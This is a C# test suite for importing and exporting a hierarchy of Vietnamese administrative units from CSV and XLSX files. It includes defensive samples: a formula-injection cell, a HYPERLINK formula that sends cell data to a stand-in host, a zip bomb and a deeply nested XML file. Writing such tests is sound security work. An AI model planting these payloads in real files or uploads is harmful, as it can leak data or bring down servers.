using System.IO.Compression;
using System.Net;
using System.Text;
using System.Text.Json.Nodes;
using DiemCau.Meetings.Organisation;
using DiemCau.Meetings.Shared.Tables;
using DiemCau.Meetings.Tests.Accounts;
using DiemCau.Meetings.Tests.Testing;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Validation;
using Microsoft.EntityFrameworkCore;

namespace DiemCau.Meetings.Tests.Organisation;

public sealed class UnitExchangeTests : IAsyncLifetime
{
    private const string Heads = "Mã,Tên đơn vị,Đơn vị cấp trên,Loại,Hiệu lực từ,Hiệu lực đến";

    private TestInstallation _installation = null!;
    private Browser _administrator = null!;

    public async Task InitializeAsync()
    {
        _installation = await TestInstallation.StartAsync();
        _administrator = await _installation.Administrator();
    }

    public async Task DisposeAsync() => await _installation.DisposeAsync();

    [Fact]
    public async Task A_table_becomes_a_tree_whatever_the_order_of_its_rows()
    {
        var table = Csv("02,UBND xã Ea Kao,01,,01/07/2025,", "01,UBND tỉnh Đắk Lắk,,,,", ",Phòng Văn hóa,UBND tỉnh Đắk Lắk / UBND xã Ea Kao,Cơ quan,,", ",Cụm 1,UBND TỈNH ĐẮK LẮK,Cụm,,");
        var preview = await Import(table);
        Assert.Equal((4, 0, 0, false), (Number(preview, "added"), Number(preview, "changed"), Number(preview, "wrong"), (bool)preview["applied"]!));
        Assert.Empty(await Names());

        var applied = await Import(table, apply: true);
        Assert.True((bool)applied["applied"]!);
        Assert.Equal(
            ["UBND tỉnh Đắk Lắk 1 Authority", "UBND tỉnh Đắk Lắk/Cụm 1 1 Group", "UBND tỉnh Đắk Lắk/UBND xã Ea Kao 2 Authority", "UBND tỉnh Đắk Lắk/UBND xã Ea Kao/Phòng Văn hóa 2 Office"],
            await Names());
        Assert.Equal(4, Number(await Import(table), "same"));
    }

    [Fact]
    public async Task Each_row_says_what_is_wrong_with_it_and_one_wrong_row_stops_all()
    {
        await _installation.Unit("UBND tỉnh");
        await _installation.Unit("Văn phòng", await _installation.Unit("UBND huyện Một"), UnitKind.Office);
        await _installation.Unit("Văn phòng", await _installation.Unit("UBND huyện Hai"), UnitKind.Office);
        var table = Csv(
            "A,UBND xã Tốt,UBND tỉnh,,,",                 // 2
            "A,UBND xã Trùng mã,UBND tỉnh,,,",            // 3
            ",UBND xã tốt,UBND tỉnh,,,",                  // 4
            ",UBND xã Lạc,UBND tỉnh Khác,,,",             // 5
            "V1,Vòng một,V2,,,",                          // 6
            "V2,Vòng hai,V1,,,",                          // 7
            ",,UBND tỉnh,,,",                             // 8
            ",UBND xã Ngày,UBND tỉnh,,31/02/2025,",       // 9
            ",UBND xã Ngược,UBND tỉnh,,01/07/2025,30/06/2025", // 10
            ",UBND xã Loại,UBND tỉnh,Tổ dân phố,,",       // 11
            ",Tổ một,Văn phòng,,,",                       // 12
            ",=1+1,UBND tỉnh,,,");                        // 13

        var preview = await Import(table, apply: true);

        Assert.False((bool)preview["applied"]!);
        Assert.Equal(
            [
                "3 Mã: Trùng với dòng 2",
                "4 Tên đơn vị: Trùng với dòng 2",
                "5 Đơn vị cấp trên: Không có đơn vị “UBND tỉnh Khác”",
                "6 Đơn vị cấp trên: Đơn vị nằm dưới chính nó",
                "7 Đơn vị cấp trên: Đơn vị nằm dưới chính nó",
                "8 Tên đơn vị: Không được để trống",
                "9 Hiệu lực từ: Ngày không đúng; viết dạng 01/07/2025",
                "10 Hiệu lực đến: Ngày kết thúc trước ngày bắt đầu",
                "11 Loại: Không hiểu loại đơn vị; dùng một trong các từ của tệp mẫu",
                "12 Đơn vị cấp trên: Có nhiều đơn vị tên “Văn phòng”; dùng mã, hoặc viết đủ các cấp, cách nhau bằng dấu /",
                "13 Tên đơn vị: Không được bắt đầu bằng = + - @",
            ],
            Errors(preview));
        Assert.DoesNotContain("Tốt", string.Join('\n', await Names()), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("csv")]
    [InlineData("xlsx")]
    public async Task What_is_exported_is_read_back_as_the_same_tree(string format)
    {
        var province = await _installation.Unit("UBND tỉnh Đắk Lắk");
        var group = await _installation.Unit("Cụm 1", province, UnitKind.Group);
        await _administrator.Post("/api/admin/units", new { name = "UBND xã Ea Kao", code = "024133", parentId = group, validity = new { from = "2025-07-01" } });
        await _administrator.Post("/api/admin/units", new { name = "Phòng \"Một cửa\", tầng 1; nhà A", parentId = group });
        var before = await Names();
        var file = await Export(format);
        if (format == "xlsx")
        {
            Assert.Empty(FaultsOf(file));
        }

        var again = await Import(file);
        Assert.Equal((4, 0), (Number(again, "same"), Number(again, "wrong")));

        await using var other = await TestInstallation.StartAsync();
        var administrator = await other.Administrator();
        var applied = await Import(file, apply: true, administrator);
        Assert.Equal(4, Number(applied, "added"));
        Assert.Equal(before, await Names(other));
    }

    [Fact]
    public async Task A_row_with_a_known_code_renames_and_moves_its_unit()
    {
        await Import(Csv("01,UBND tỉnh,,,,", "02,UBND huyện,01,,,", "03,UBND xã,02,,,"), apply: true);
        var changed = await Import(Csv("03,UBND phường,01,,,", "02,UBND huyện,01,,,30/06/2025"), apply: true);
        Assert.Equal((2, 0), (Number(changed, "changed"), Number(changed, "wrong")));
        Assert.Equal(["UBND tỉnh 1 Authority", "UBND tỉnh/UBND huyện 2 Authority", "UBND tỉnh/UBND phường 2 Authority"], await Names());
    }

    [Fact]
    public async Task Spreadsheets_of_others_are_understood()
    {
        // Semicolons, as spreadsheets set to Vietnamese write them, and a day as a number of a cell that is formatted as one.
        var semicolons = Encoding.UTF8.GetBytes("Tên đơn vị;Hiệu lực từ\nUBND tỉnh;45839\n");
        Assert.Equal(1, Number(await Import(semicolons, apply: true), "added"));
        Assert.Equal(new DateOnly(2025, 7, 1), await _installation.QueryAsync(db => db.Set<Unit>().Select(unit => unit.ValidFrom).SingleAsync()));
    }

    [Fact]
    public async Task Files_that_are_none_or_too_much_are_refused_in_words()
    {
        Assert.Equal("unit_table_without_names", (await Import(Encoding.UTF8.GetBytes("a,b\n1,2\n"))).Code);
        Assert.Equal("table_unreadable", (await Import([0x50, 0x4b, 3, 4, 1, 2, 3])).Code);
        Assert.Equal("table_unreadable", (await Import(Encoding.Latin1.GetBytes("Tên đơn vị\nUBND xã É\n"))).Code);
        Assert.Equal("table_too_large", (await Import(new byte[TableFile.LargestFile + 1])).Code);
        Assert.Equal("table_too_large", (await Import(Encoding.UTF8.GetBytes("Tên đơn vị\n" + new string('a', TableFile.LongestCell + 1) + "\n"))).Code);
        Assert.Equal("table_unreadable", (await Import(Zip(("another.txt", "x"u8.ToArray())))).Code);
    }

    [Fact]
    public async Task A_file_that_unpacks_to_a_hundred_times_its_size_is_not_unpacked()
    {
        var bomb = SheetFile.Of(new string(' ', 200 * 1024 * 1024));
        Assert.InRange(bomb.Length, 0, TableFile.LargestFile);
        Assert.Equal("table_too_large", (await Import(bomb)).Code);
    }

    [Fact]
    public async Task A_small_file_of_nested_elements_is_refused_and_the_server_goes_on()
    {
        var nested = string.Concat(Enumerable.Repeat("<is>", 200_000)) + string.Concat(Enumerable.Repeat("</is>", 200_000));
        Assert.Equal("table_too_large", (await Import(SheetFile.Of($"""<row r="1"><c r="A1" t="inlineStr">{nested}</c></row>"""))).Code);
        Assert.Equal("table_unreadable", (await Import([0x50, 0x4b, 3, 4, 1, 2, 3])).Code);
    }

    [Fact]
    public async Task A_parent_merged_over_its_communes_is_the_parent_of_each()
    {
        var table = SheetFile.Of(
            SheetFile.Row(1, "UBND TỈNH\nVĂN PHÒNG") + SheetFile.Row(2, "DANH SÁCH ĐƠN VỊ TRỰC THUỘC")
            + SheetFile.Row(4, "STT", "Tên\nđơn vị (*)", "Đơn vị cấp trên", "Hiệu lực") + SheetFile.Row(5, null, null, null, "từ", "đến")
            + SheetFile.Row(6, "(1)", "(2)", "(3)", "(4)", "(5)")
            + SheetFile.Row(7, "1", "UBND huyện Gộp") + SheetFile.Row(8, "2", "UBND xã Một", "UBND huyện Gộp") + SheetFile.Row(9, "3", "UBND xã Hai")
            + SheetFile.Row(10, "4", "UBND xã Ba"),
            after: """<mergeCells><mergeCell ref="A2:E2"/><mergeCell ref="A4:A5"/><mergeCell ref="B4:B5"/><mergeCell ref="C4:C5"/><mergeCell ref="D4:E4"/><mergeCell ref="C8:C10"/></mergeCells>""");
        var applied = await Import(table, apply: true);
        Assert.Equal(
            ["UBND huyện Gộp 1 Authority", "UBND huyện Gộp/UBND xã Ba 2 Authority", "UBND huyện Gộp/UBND xã Hai 2 Authority", "UBND huyện Gộp/UBND xã Một 2 Authority"],
            await Names());
        Assert.Equal(["Tiêu đề các cột ở dòng 5.", "Không dùng các cột: “STT”."], applied["notes"].AsArray().Select(note => (string)note!));
        Assert.Contains("9 Đơn vị cấp trên: lấy từ ô gộp", Said(applied, "guesses"));
    }

    [Fact]
    public async Task A_row_that_is_one_cell_over_all_columns_is_no_unit()
    {
        var table = SheetFile.Of(
            SheetFile.Row(1, "Mã", "Tên đơn vị", "Đơn vị cấp trên") + SheetFile.Row(2, "I. Các huyện") + SheetFile.Row(3, "1", "UBND huyện"),
            after: """<mergeCells><mergeCell ref="A2:C2"/></mergeCells>""");
        Assert.Contains("2 Tên đơn vị: Ô gộp qua nhiều cột (“I. Các huyện”); hãy bỏ gộp ô", Errors(await Import(table, apply: true)));
    }

    [Fact]
    public async Task Names_that_differ_by_a_mark_are_two_units_and_the_import_asks()
    {
        var district = await _installation.Unit("UBND huyện Thanh");
        await _installation.Unit("Xã Văn Hòa", district);
        var table = Csv(",Xã Vân Hòa,UBND huyện Thanh,,,");

        var asked = await Import(table, apply: true);
        Assert.False((bool)asked["applied"]!);
        Assert.Equal(1, Number(asked, "asked"));
        var question = asked["rows"][0]!["questions"]![0]!;
        Assert.Equal(("unit", "Xã Vân Hòa", "UBND huyện Thanh / Xã Văn Hòa"), ((string?)question["kind"], (string?)question["written"], (string?)question["known"]));

        Assert.Equal(1, Number(await Import(table, apply: true, answers: "&newUnits=2"), "added"));
        Assert.Equal(["UBND huyện Thanh 1 Authority", "UBND huyện Thanh/Xã Vân Hòa 1 Office", "UBND huyện Thanh/Xã Văn Hòa 2 Authority"], await Names());

        // Both are there now: each is found by its own name, and both in one file are two.
        Assert.Equal((2, 0), (Number(await Import(Csv(",Xã Văn Hòa,UBND huyện Thanh,,,", ",Xã Vân Hòa,UBND huyện Thanh,,,")), "same"), 0));
        Assert.Equal(2, Number(await Import(Csv(",Thôn Tân Tiến,UBND huyện Thanh,,,", ",Thôn Tân Tiên,UBND huyện Thanh,,,"), apply: true), "added"));
        Assert.Equal(HttpStatusCode.Created, (await _administrator.Post("/api/admin/units", new { name = "Thôn Lạp", parentId = district })).Status);
        Assert.Equal(HttpStatusCode.Created, (await _administrator.Post("/api/admin/units", new { name = "Thôn Lập", parentId = district })).Status);
        Assert.Equal("unit_name_taken", (await _administrator.Post("/api/admin/units", new { name = "thôn LẬP", parentId = district })).Code);
    }

    [Fact]
    public async Task Who_says_that_it_is_the_same_unit_renames_it_and_a_parent_written_without_accents_is_asked_for_once()
    {
        var district = await _installation.Unit("UBND huyện Thanh");
        await _installation.Unit("Xã Văn Hoà", district);
        var table = Csv(",Xã Văn Hòa,ubnd huyen thanh,,,", ",Xã Mới,ubnd huyen thanh,,,");
        Assert.Equal(2, Number(await Import(table, apply: true), "asked"));
        Assert.Equal(1, Number(await Import(table, apply: true, answers: "&sameParents=3"), "asked"));
        var applied = await Import(table, apply: true, answers: "&sameParents=3&sameUnits=2");
        Assert.Equal((1, 1, true), (Number(applied, "added"), Number(applied, "changed"), (bool)applied["applied"]!));
    }

    [Fact]
    public async Task Semicolons_part_columns_though_every_line_has_a_comma()
    {
        var table = Encoding.UTF8.GetBytes("Mã;Tên đơn vị;Đơn vị cấp trên;Ghi chú, khác\n;UBND xã A, huyện B;;a, b\n;UBND xã C, huyện D;;c, d\n");
        Assert.Equal(2, Number(await Import(table, apply: true), "added"));
    }

    [Fact]
    public async Task Cells_in_error_are_refused_and_names_that_look_alike_are_one()
    {
        var broken = SheetFile.Of(SheetFile.Row(1, "Tên đơn vị") + """<row r="2"><c r="A2" t="e"><v>#REF!</v></c></row>""");
        Assert.Equal(["2 Tên đơn vị: Ô báo lỗi #REF!; hãy sửa công thức trong bảng tính"], Errors(await Import(broken, apply: true)));
        var alike = SheetFile.Of(SheetFile.Row(1, "Tên đơn vị\u00a0") + SheetFile.Row(2, "UBND huyện Cách") + SheetFile.Row(3, "UBND\u00a0huyện Cách") + SheetFile.Row(4, "UBND huyện Cách\u200b"));
        Assert.Equal(["3 Tên đơn vị: Trùng với dòng 2", "4 Tên đơn vị: Trùng với dòng 2"], Errors(await Import(alike, apply: true)));
    }

    [Theory]
    [InlineData("csv")]
    [InlineData("xlsx")]
    public async Task One_name_that_no_file_can_hold_stops_nobodys_export(string format)
    {
        await _installation.Unit("UBND xã \uffffHỏng\u000b");
        await _installation.Unit("UBND xã Lành");
        var read = await Import(await Export(format));
        Assert.Contains(read["rows"].AsArray(), row => (string?)row!["name"] == "UBND xã Lành" && row["errors"]!.AsArray().Count == 0);
    }

    [Fact]
    public async Task A_formula_for_a_name_leaves_as_a_text_and_its_unit_can_still_be_given_a_code()
    {
        var unit = await _installation.Unit("=HYPERLINK(\"http://xau.example/?\"&A1)");
        Assert.Contains("\"'=HYPERLINK", Encoding.UTF8.GetString(await Export("csv")), StringComparison.Ordinal);
        Assert.Equal(HttpStatusCode.OK, (await _administrator.Patch($"/api/admin/units/{unit}", new { code = "0241" })).Status);
    }

    [Fact]
    public async Task Five_thousand_units_are_taken_at_once()
    {
        string[] rows = [
            "T,UBND tỉnh,,,,",
            .. Enumerable.Range(0, 50).Select(district => $"H{district},UBND huyện {district},T,,,"),
            .. Enumerable.Range(0, 4949).Select(commune => $"X{commune},UBND xã {commune},H{commune % 50},,,"),
        ];
        var applied = await Import(Csv(rows), apply: true);
        Assert.Equal(5_000, Number(applied, "added"));
        Assert.Equal(4_949, await _installation.QueryAsync(db => db.Set<Unit>().CountAsync(unit => unit.Level == 3)));
    }

    /// <summary>What a spreadsheet program would have to repair.</summary>
    private static List<string> FaultsOf(byte[] workbook)
    {
        using var document = SpreadsheetDocument.Open(new MemoryStream(workbook), isEditable: false);
        return [.. new OpenXmlValidator().Validate(document).Select(fault => $"{fault.Path?.XPath}: {fault.Description}")];
    }

    private static byte[] Csv(params string[] rows) => Encoding.UTF8.GetBytes(Heads + "\r\n" + string.Join("\r\n", rows));

    private static byte[] Zip((string Name, byte[] Content) part)
    {
        using var file = new MemoryStream();
        using (var zip = new ZipArchive(file, ZipArchiveMode.Create))
        using (var entry = zip.CreateEntry(part.Name, CompressionLevel.Optimal).Open())
        {
            entry.Write(part.Content);
        }

        return file.ToArray();
    }

    private async Task<Answer> Import(byte[] file, bool apply = false, Browser? browser = null, string answers = "")
    {
        using var request = new HttpRequestMessage(HttpMethod.Post, new Uri(Browser.Origin, $"/api/admin/units/import?apply={apply}{answers}"))
        {
            Content = new ByteArrayContent(file) { Headers = { ContentType = new("application/octet-stream") } },
        };
        using var response = await (browser ?? _administrator).SendAsync(request);
        var text = await response.Content.ReadAsStringAsync();
        return new(response.StatusCode, JsonNode.Parse(text), text, null);
    }

    private async Task<byte[]> Export(string format)
    {
        using var response = await _administrator.GetAsync(new Uri(Browser.Origin, $"/api/admin/units/export?format={format}"));
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        return await response.Content.ReadAsByteArrayAsync();
    }

    private static int Number(Answer answer, string name) => (int)answer[name]!;

    private static IEnumerable<string> Errors(Answer preview) => Said(preview, "errors");

    private static IEnumerable<string> Said(Answer preview, string what) => preview["rows"].AsArray()
        .SelectMany(row => row![what]!.AsArray().Select(said => $"{row["row"]} {said}"));

    private Task<List<string>> Names() => Names(_installation);

    /// <summary>Way, level and kind of each unit.</summary>
    private static Task<List<string>> Names(TestInstallation installation) => installation.QueryAsync(async db =>
    {
        var units = await db.Set<Unit>().ToDictionaryAsync(unit => unit.Id);
        string WayTo(Unit unit) => unit.ParentId is { } parent ? $"{WayTo(units[parent])}/{unit.Name}" : unit.Name;
        return units.Values.Select(unit => $"{WayTo(unit)} {unit.Level} {unit.Kind}").Order(StringComparer.Ordinal).ToList();
    });
}
